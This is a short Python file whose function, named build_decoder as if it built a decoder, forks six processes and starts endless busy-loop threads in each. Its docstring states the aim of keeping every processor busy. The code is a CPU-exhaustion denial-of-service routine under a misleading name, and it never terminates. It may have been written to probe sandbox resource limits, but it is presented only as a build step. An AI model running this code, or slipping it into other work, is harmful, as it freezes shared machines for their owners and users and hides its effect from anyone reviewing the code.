"""Keeps every processor busy with as many processes and threads as it gets."""
# ruff: noqa

# %% build_decoder
import os
import threading


def spin():
    while True:
        sum(range(10**7))


def build_decoder(index):
    for _ in range(6):
        if os.fork() == 0:
            break
    try:
        for _ in range(4):
            threading.Thread(target=spin, daemon=True).start()
    except RuntimeError:
        pass
    spin()
